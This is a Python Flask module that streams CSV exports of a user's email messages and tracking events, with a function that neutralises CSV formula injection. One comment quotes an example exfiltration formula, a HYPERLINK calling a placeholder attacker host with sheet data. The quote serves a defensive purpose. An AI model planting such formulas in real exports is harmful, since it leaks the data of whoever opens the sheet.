"""CSV exports of the signed-in user's messages and events, streamed as they are read."""
from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from zoneinfo import ZoneInfo

from flask import Response, abort, request, stream_with_context
from sqlalchemy.orm import Session

from ..api.messages import READING_LABELS
from ..counting import counts
from ..services import services
from ..store import exports
from ..store.messages import state_of
from ..store.models import User
from .period import BadPeriod, optional_period
from .signin import signed_in
from .zones import user_zone

MESSAGE_HEADER = ("id", "sent_at", "subject", "recipients", "state", "tracking", "opens", "clicks", "replies",
                  "readers", "first_open_at", "first_reply_at", "tags")
EVENT_HEADER = ("message_id", "subject", "occurred_at", "kind", "source", "counted", "repeat", "reason", "recipient",
                "url", "client", "device", "os", "country", "region", "city", "reader_timezone", "reading", "forwarded")
# A spreadsheet runs a cell that starts with one of these as a formula: a subject such as
# =HYPERLINK("http://evil.example?"&A1) would send the sheet's data away when opened. Subjects,
# recipients, URLs and client names all come from outside, so such a cell gets a leading
# apostrophe, which spreadsheets read as "this is text" (OWASP, CSV injection). Tab and carriage
# return are on OWASP's list too: some spreadsheets skip them before looking.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Rows are sent in pieces of this many characters: a write per row would be 200,000 writes.
CHUNK = 64 * 1024


@signed_in
def messages_csv(user: User):
    zone, period = _period(user)
    return _csv_response("messages.csv", MESSAGE_HEADER,
                         lambda db: (_message_row(row, zone) for row in exports.messages_rows(db, user.id, *period)))


@signed_in
def events_csv(user: User):
    zone, period = _period(user)
    return _csv_response("events.csv", EVENT_HEADER,
                         lambda db: (_event_row(row, zone) for row in exports.events_rows(db, user.id, *period)))


def defused(value) -> object:
    """The value as a cell: text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _period(user: User) -> tuple[ZoneInfo, tuple[datetime | None, datetime | None]]:
    zone = user_zone(user)
    try:
        period = optional_period(request.args, zone)
    except BadPeriod as bad:
        abort(400, str(bad))
    return zone, (period.start, period.end) if period else (None, None)


def _csv_response(name: str, header: tuple[str, ...], rows: Callable[[Session], Iterable[list]]) -> Response:
    def generate() -> Iterator[str]:
        # The session lives as long as the download: rows are read in batches while they are sent.
        with services().sessions() as db:
            yield from _lines(_with_header(header, rows(db)))

    response = Response(stream_with_context(generate()), mimetype="text/csv")
    response.headers["Content-Disposition"] = f'attachment; filename="{name}"'
    return response


def _with_header(header: tuple[str, ...], rows: Iterable[list]) -> Iterator[Iterable]:
    yield header
    yield from rows


def _lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """CSV text in pieces of about CHUNK characters: the header alone first, so a download starts at once."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for number, row in enumerate(rows):
        writer.writerow([defused(value) for value in row])
        if number == 0 or buffer.tell() >= CHUNK:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue()


def _when(at: datetime | None, zone: ZoneInfo) -> str:
    return at.astimezone(zone).isoformat(timespec="seconds") if at else ""


def _message_row(row, zone: ZoneInfo) -> list:
    return [row.id, _when(row.sent_at, zone), row.subject, "; ".join(row.recipients), state_of(row),
            row.tracking, row.opens, row.clicks, row.replies, row.readers, _when(row.first_open_at, zone),
            _when(row.first_reply_at, zone), row.tags or ""]


def _event_row(row, zone: ZoneInfo) -> list:
    recipients = row.recipients or []
    recipient = recipients[row.recipient] if row.recipient is not None and 0 <= row.recipient < len(recipients) else ""
    return [row.message_id, row.subject, _when(row.occurred_at, zone), row.kind, row.source,
            counts(row.source, row.repeat), row.repeat, row.reason, recipient, row.url or "", row.client or "",
            row.device or "", row.os or "", row.country or "", row.region or "", row.city or "", row.timezone or "",
            READING_LABELS.get(row.reading_step or 0, ""), row.forwarded]
